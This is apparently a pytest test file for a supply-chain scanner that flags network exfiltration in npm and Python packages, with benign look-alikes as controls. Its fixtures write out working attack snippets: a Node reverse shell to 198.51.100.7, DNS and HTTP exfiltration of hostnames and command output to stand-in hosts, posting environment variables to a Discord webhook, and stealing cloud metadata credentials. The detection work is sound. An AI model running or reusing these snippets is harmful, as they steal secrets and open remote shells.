"""Data that leaves, and doors that are opened."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem
from adapters.sigil.local.phases.network_exfil import network_exfil
from adapters.sigil.models import PhaseName, Severity

_NPM = {
    "dns-exfiltration": (
        "const dns = require('dns'), os = require('os');\n"
        "dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.x.example.invalid', () => {})"
    ),
    "reverse-shell": (
        "const net = require('net'), cp = require('child_process');\nconst shell = cp.spawn('/bin/sh', []);\n"
        "const line = new net.Socket();\nline.connect(4444, '198.51.100.7', () => {"
        " line.pipe(shell.stdin); shell.stdout.pipe(line); });"
    ),
    "identity-leaves": (
        "const os = require('os');\nfetch('https://who.example.invalid/', {method: 'POST', body: os.hostname()})"
    ),
    "command-output-leaves": (
        "const out = require('child_process').execSync('whoami').toString();\n"
        "require('https').get('https://x.example.invalid/?d=' + encodeURIComponent(out))"
    ),
}
_PYTHON = {
    "data-to-drop-point": (
        "import os, requests\n"
        "requests.post('https://discord.com/api/webhooks/1/a', json={'content': str(dict(os.environ))})\n"
    ),
    "metadata-leaves": (
        "import requests\nkeys = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n"
        "requests.post('https://x.example.invalid', data=keys)\n"
    ),
}
_TWINS = {
    "looks a name up": "require('dns').lookup('registry.example.com', () => {})",
    "posts when asked": "exports.send = (t) => fetch('https://hooks.slack.com/services/1', {method: 'POST', body: t})",
    "runs a child": "const c = require('child_process').spawn('git', ['status']); c.stdout.pipe(process.stdout)",
    "names a log's host": "const os = require('os'); exports.record = (m) => ({host: os.hostname(), message: m})",
}


@pytest.mark.parametrize("rule", _NPM)
def test_finds_attack_in_javascript(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is required, and is HIGH_RISK by itself."""
    result = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _NPM[rule]}))

    assert rule in result.rules(PhaseName.NETWORK_EXFIL)
    assert result.dangerous


@pytest.mark.parametrize("rule", _PYTHON)
def test_finds_attack_in_python(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is imported, and is HIGH_RISK by itself."""
    result = outcome(pack({"sample/__init__.py": _PYTHON[rule]}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl"))

    assert rule in result.rules(PhaseName.NETWORK_EXFIL)
    assert result.dangerous


@pytest.mark.parametrize("twin", _TWINS)
def test_twins_are_not_dangerous(pack: Any, outcome: Any, twin: str) -> None:
    """What honest packages do in a similar way is at most a hint."""
    assert outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _TWINS[twin]})).score < 10


def severity_of(rule: str, scanned: Any) -> Severity | None:
    return next((each.severity for each in network_exfil(scanned) if each.rule == rule), None)


@pytest.mark.parametrize(
    ("address", "severity"),
    [
        ("https://x.ngrok-free.app/a", Severity.CRITICAL),
        ("http://198.51.100.7:8080/a", Severity.CRITICAL),
        ("http://127.0.0.1:8080/a", None),
        ("https://api.example.com/a", None),
    ],
)
def test_drop_points(made: Any, fact: Callable[..., Fact], address: str, severity: Severity | None) -> None:
    """Tunnels and bare public addresses are drop points; the own machine and plain hosts are none."""
    flow = Flow(source=fact(Behaviour.READS_SECRET_FILE, "~/.ssh/id_rsa"), sink=fact(Behaviour.SENDS, address, 2))

    assert severity_of("data-to-drop-point", made({"index.js": (flow,)})) is severity


def test_hidden_address(made: Any, fact: Callable[..., Fact]) -> None:
    """An address that is decoded before it is spoken to is critical at load; decoded data is no address."""
    to, sends = (
        fact(Behaviour.DECODES, "https://x.example.invalid/"),
        fact(Behaviour.SENDS, "https://x.example.invalid/", 2),
    )
    data = fact(Behaviour.DECODES, "hello world")

    assert severity_of("hidden-address", made({"index.js": (Flow(source=to, sink=sends),)})) is Severity.CRITICAL
    assert severity_of("hidden-address", made({"index.js": (Flow(source=data, sink=sends),)})) is None


def test_asking_the_metadata_service_is_everyday_when_called(made: Any, fact: Callable[..., Fact]) -> None:
    """A cloud's own library asks the metadata service when it is called; asking at load is suspicious."""

    def severity(*, at_load: bool) -> Severity | None:
        asks = fact(Behaviour.READS_METADATA_SERVICE, "http://169.254.169.254/", at_load=at_load)
        return severity_of("metadata-service", made({"index.js": (asks,)}))

    assert severity(at_load=False) is Severity.INFO
    assert severity(at_load=True) is Severity.HIGH


def test_file_that_leaves(made: Any, fact: Callable[..., Fact]) -> None:
    """A file whose content goes to a stranger at load is grave; the own version that is reported is not."""

    def severity(path: str) -> Severity | None:
        flow = Flow(source=fact(Behaviour.READS_FILE, path), sink=fact(Behaviour.SENDS, "https://x.example.invalid", 2))
        return severity_of("file-leaves", made({"index.js": (flow,)}))

    assert severity("/data/customers.csv") is Severity.HIGH
    assert severity("./package.json") is Severity.INFO
